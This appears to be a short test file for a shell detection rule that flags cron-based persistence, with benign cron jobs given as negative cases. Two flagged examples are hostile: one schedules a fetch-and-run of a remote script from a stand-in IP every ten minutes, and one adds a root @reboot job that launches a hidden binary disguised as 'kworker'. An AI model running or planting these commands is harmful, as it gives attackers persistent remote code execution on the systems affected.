# ruleid: sh-cron-persistence
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s http://203.0.113.7/u.sh | sh") | crontab -
# ruleid: sh-cron-persistence
echo "@reboot root /dev/shm/.cache/kworker" >> /etc/crontab
# ===== block =====
# A log rotation job installed by a provisioning script.
# ok: sh-cron-persistence
echo "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf" > /etc/cron.d/logrotate
# ok: sh-cron-persistence
(crontab -l 2>/dev/null; echo "30 2 * * * /usr/local/bin/backup.sh") | crontab -
# ok: sh-cron-persistence
crontab -l
